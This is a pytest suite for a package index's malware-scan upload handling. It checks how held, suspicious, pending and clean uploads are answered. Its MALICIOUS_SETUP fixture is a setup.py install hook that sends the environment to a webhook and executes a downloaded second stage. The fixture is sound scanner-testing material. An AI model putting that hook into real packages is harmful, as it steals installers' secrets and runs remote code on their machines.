"""The upload answers from its file's scan: a held file is refused with the reason, a file the
scan has not decided yet is accepted with a body that says it waits.

The suite's task backend runs the scan at once (the verdict is known when the upload reads
the file's state again); with the database queue, nothing runs it here, and a worker's lease
says whether one would. A live worker is in tests/e2e/test_verdict.py.
"""

from __future__ import annotations

import time
from datetime import timedelta
from typing import Any

import pytest
from django.test import override_settings
from django.utils import timezone

from bastion.packages.models import File, FilenameRegistry
from bastion.scanning.explain import RULES
from bastion.upload.models import WorkerLease
from tests import builders

pytestmark = pytest.mark.django_db(transaction=True)

DATABASE_QUEUE = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}

#: An install hook that sends the environment away and runs a downloaded stage (inert here:
#: the scanner reads it as data).
MALICIOUS_SETUP = b"""import os, base64, urllib.request
from setuptools import setup
from setuptools.command.install import install

class Evil(install):
    def run(self):
        data = base64.b64encode(repr(dict(os.environ)).encode())
        urllib.request.urlopen("https://discord.com/api/webhooks/1/abc", data=data)
        exec(urllib.request.urlopen("http://203.0.113.9/stage2.py").read())
        install.run(self)

setup(name="samplepkg", version="1.0", cmdclass={"install": Evil})
"""


def malicious_sdist(version: str = "1.0") -> builders.Dist:
    return builders.sdist(
        "samplepkg", version, extra_members={f"samplepkg-{version}/setup.py": MALICIOUS_SETUP}
    )


def test_a_malicious_upload_is_refused_with_the_reason_and_stays_held(
    upload: Any, token: str, mailoutbox: Any
) -> None:
    dist = malicious_sdist()
    response = upload(dist, token)
    assert response.status_code == 400
    # PyPI's sentence first, then the finding that decided it: rule, where, when, why
    assert response.reason_phrase.startswith(
        "Invalid distribution file. The malware scan found samplepkg-1.0.tar.gz malicious: it "
        "is held for an administrator's review and cannot be installed. Deciding finding: "
        "exfiltration at samplepkg-1.0/setup.py:7 (runs install time (setup.py)): "
        + RULES["exfiltration"].why
    )
    assert response.reason_phrase.endswith(" See /help/#held-by-scan")
    assert "2 more on the project's management page" in response.reason_phrase
    assert response.content.decode().strip() == response.reason_phrase
    file = File.objects.get()
    assert file.state == File.HELD and file.scan_verdict == "malicious"
    assert FilenameRegistry.objects.filter(filename=dist.filename).exists()
    (mail, *_) = [m for m in mailoutbox if "samplepkg-1.0.tar.gz was held" in m.subject]
    assert "Deciding finding: exfiltration at samplepkg-1.0/setup.py:7" in mail.body
    assert "management page lists every finding" in mail.body
    # The same file again gets the same answer, not the 200 of an identical re-upload.
    again = upload(dist, token)
    assert again.status_code == 400 and again.reason_phrase == response.reason_phrase
    # Other bytes under its name: the name stays used, as on PyPI.
    other = builders.sdist("samplepkg", "1.0", summary="Another summary")
    assert upload(other, token).reason_phrase.startswith("File already exists")


def test_a_clean_upload_answers_an_empty_200(upload: Any, token: str) -> None:
    response = upload(builders.wheel("samplepkg", "1.0"), token)
    assert response.status_code == 200 and response.content == b""
    assert File.objects.get().state == File.PUBLISHED


def test_a_suspicious_file_held_by_the_operators_choice_is_refused(
    upload: Any, token: str, bastion_settings: Any
) -> None:
    bastion_settings(suspicious_action="hold")
    # PyArmor-protected code: suspicious, not malicious.
    code = "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')\n"
    response = upload(builders.wheel("samplepkg", "1.0", code=code), token)
    file = File.objects.get()
    assert file.scan_verdict == "suspicious", file.scan_findings
    assert response.status_code == 400
    assert "The malware scan found samplepkg-1.0-py3-none-any.whl suspicious" in (
        response.reason_phrase
    )
    assert (
        "Deciding finding: pyarmor-protected at samplepkg/__init__.py:1 (runs on import): "
        + RULES["pyarmor-protected"].why
    ) in response.reason_phrase
    assert file.state == File.HELD


def test_a_file_still_pending_is_accepted_with_a_body_that_says_so(
    upload: Any, token: str, bastion_settings: Any
) -> None:
    """A worker holds a live lease but does not get to the scan within the wait."""
    bastion_settings(upload_verdict_wait=0.4, upload_scan_in_request=0)
    now = timezone.now()
    WorkerLease.objects.create(
        worker_id="busy",
        node="elsewhere",
        pid=1,
        started_at=now,
        renewed_at=now,
        expires_at=now + timedelta(minutes=1),
    )
    with override_settings(TASKS=DATABASE_QUEUE):
        started = time.monotonic()
        response = upload(malicious_sdist(), token)
        waited = time.monotonic() - started
    assert response.status_code == 200
    assert response.content.decode() == (
        "samplepkg-1.0.tar.gz was received and is held until its malware scan completes: it "
        "cannot be installed before then. The project's owners are emailed if the scan holds "
        "it.\n"
    )
    assert waited >= 0.4
    assert File.objects.get().state == File.PENDING


def test_without_a_live_worker_the_upload_does_not_wait(
    upload: Any, token: str, bastion_settings: Any
) -> None:
    """Nothing can decide (``bastion serve --no-worker`` and no worker elsewhere): answering
    at once beats making every upload wait the whole time."""
    bastion_settings(upload_verdict_wait=30.0, upload_scan_in_request=0)
    now = timezone.now()
    WorkerLease.objects.create(
        worker_id="dead",
        node="elsewhere",
        pid=1,
        started_at=now - timedelta(hours=1),
        renewed_at=now - timedelta(hours=1),
        expires_at=now - timedelta(minutes=59),
    )
    with override_settings(TASKS=DATABASE_QUEUE):
        started = time.monotonic()
        response = upload(builders.wheel("samplepkg", "1.0"), token)
        waited = time.monotonic() - started
    assert response.status_code == 200
    assert "held until its malware scan completes" in response.content.decode()
    assert waited < 10


def test_with_no_wait_a_verdict_already_known_still_answers(
    upload: Any, token: str, bastion_settings: Any
) -> None:
    """0 never waits; the state is still read once (here the scan ran in the transaction)."""
    bastion_settings(upload_verdict_wait=0.0)
    assert upload(malicious_sdist(), token).status_code == 400
    assert upload(builders.wheel("samplepkg", "2.0"), token).content == b""


def test_a_scan_that_could_not_examine_everything_is_refused_so(
    upload: Any, token: str, monkeypatch: pytest.MonkeyPatch, bastion_settings: Any
) -> None:
    import bastion.scanning
    from bastion.scanning import ScanConfig

    bastion_settings(scan_retry_factor=1)
    monkeypatch.setattr(bastion.scanning, "DEFAULT_CONFIG", ScanConfig(max_parse_bytes=5))
    response = upload(builders.wheel("samplepkg", "1.0"), token)
    assert response.status_code == 400
    assert response.reason_phrase == (
        "The malware scan could not examine all of samplepkg-1.0-py3-none-any.whl: it is held "
        "for an administrator's review and cannot be installed. Not examined (parse): not "
        "parsed: the archive's parse budget was spent (samplepkg/__init__.py). "
        "See /help/#held-by-scan"
    )


@pytest.mark.parametrize(
    ("raw", "seconds"),
    [("", 0.0), ("5", 5.0), ("0", 0.0), ("1.5", 1.5), ("-1", None), ("nan", None)],
)
def test_the_wait_setting_takes_0_to_600_seconds(raw: str, seconds: float | None) -> None:
    from bastion import config

    environ = {"BASTION_UPLOAD_VERDICT_WAIT": raw}
    if seconds is None:
        with pytest.raises(config.SettingsError, match="BASTION_UPLOAD_VERDICT_WAIT"):
            config.from_environ(environ)
    else:
        assert config.from_environ(environ).upload_verdict_wait == seconds


def test_a_small_file_is_scanned_in_its_request_without_any_worker(
    upload: Any, token: str, bastion_settings: Any
) -> None:
    """With the database queue and no worker at all, a small file's upload answers with its
    verdict: the request scanned it. Its queued scan waits a minute for the worker, the
    guarantee if the web process had died before deciding."""
    from django_tasks_db.models import DBTaskResult

    bastion_settings(upload_verdict_wait=0.0, upload_scan_in_request=64 * 1024)
    with override_settings(TASKS=DATABASE_QUEUE):
        refused = upload(malicious_sdist(), token)
        clean = upload(builders.wheel("samplepkg", "2.0"), token)
    assert refused.status_code == 400
    assert "malicious" in refused.reason_phrase
    assert clean.status_code == 200 and clean.content == b""
    states = dict(File.objects.values_list("filename", "state"))
    assert states == {
        "samplepkg-1.0.tar.gz": File.HELD,
        "samplepkg-2.0-py3-none-any.whl": File.PUBLISHED,
    }
    queued = DBTaskResult.objects.filter(task_path__endswith="scan_pending_file")
    assert queued.count() == 2
    assert all(row.run_after > timezone.now() + timedelta(seconds=30) for row in queued)


def test_a_file_above_the_in_request_size_waits_for_the_worker(
    upload: Any, token: str, bastion_settings: Any
) -> None:
    bastion_settings(upload_verdict_wait=0.0, upload_scan_in_request=10)
    with override_settings(TASKS=DATABASE_QUEUE):
        response = upload(malicious_sdist(), token)
    assert response.status_code == 200
    assert "held until its malware scan completes" in response.content.decode()
    assert File.objects.get().state == File.PENDING


def test_the_deciding_sentence_escapes_member_names_that_are_not_utf8() -> None:
    # tar member names that are not UTF-8 reach the findings as lone surrogates; the answer
    # must still encode (a UnicodeEncodeError there would be a 500)
    from bastion.upload.verdict import deciding_sentence

    stored = [
        {
            "rule": "exec-downloaded-code",
            "severity": "high",
            "message": "Downloads code and executes it at install time (setup.py).",
            "file": "demo-1.0/\udcffsetup.py",
            "line": 3,
            "excerpt": None,
            "context": "install time (setup.py)",
        }
    ]
    sentence = deciding_sentence(stored)
    sentence.encode("utf-8")
    assert "demo-1.0/\\udcffsetup.py:3" in sentence
